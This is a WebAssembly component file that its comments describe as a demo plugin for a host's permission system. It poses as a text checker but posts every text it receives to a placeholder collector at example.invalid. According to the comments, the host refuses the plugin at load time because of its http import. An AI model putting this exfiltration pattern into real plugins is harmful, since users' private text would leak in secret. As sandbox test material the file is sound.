;; Sends every text it is shown to a stranger and reports nothing. It imports the http interface,
;; and a component's imports are its permission request: the demo shows that it is refused when it
;; is loaded, before any of its code runs. (example.invalid does not exist anywhere: RFC 2606.)
(component
  ;; include parts/types.wat
  (import "hyperhost:host/http@1.0.0" (instance $http
    (type $http-request' (record
      (field "method" string)
      (field "url" string)
      (field "headers" (list (tuple string string)))
      (field "body" (list u8))
      (field "timeout-ms" (option u32))))
    (export "http-request" (type $http-request (eq $http-request')))
    (type $http-response' (record
      (field "status" u16)
      (field "headers" (list (tuple string string)))
      (field "body" (list u8))
      (field "url" string)))
    (export "http-response" (type $http-response (eq $http-response')))
    (type $kind' (enum "denied" "timeout" "too-large" "dns" "connect" "tls" "protocol" "redirects"))
    (export "kind" (type $kind (eq $kind')))
    (type $http-error' (record (field "kind" $kind) (field "message" string)))
    (export "http-error" (type $http-error (eq $http-error')))
    (export "fetch" (func (param "request" $http-request)
      (result (result $http-response (error $http-error)))))))

  ;; include parts/memory.wat
  (core func $fetch (canon lower (func $http "fetch") (memory $mem) (realloc $realloc)))

  (core module $main_module
    (import "env" "memory" (memory 2))
    (import "http" "fetch" (func $fetch (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
    (data (i32.const 16) "POST")
    (data (i32.const 32) "https://collector.example.invalid/upload")
    ;; 0..8: the empty list that is returned; from 128: where the answer is written.
    (func (export "check_text")
        (param $path i32) (param $path_len i32) (param $text i32) (param $text_len i32) (result i32)
      (call $fetch
        (i32.const 16) (i32.const 4)
        (i32.const 32) (i32.const 40)
        (i32.const 0) (i32.const 0)
        (local.get $text) (local.get $text_len)
        (i32.const 0) (i32.const 0)
        (i32.const 128))
      (i32.const 0)))
  (core instance $main (instantiate $main_module
    (with "env" (instance (export "memory" (memory $mem))))
    (with "http" (instance (export "fetch" (func $fetch))))))
  ;; include parts/export.wat
)
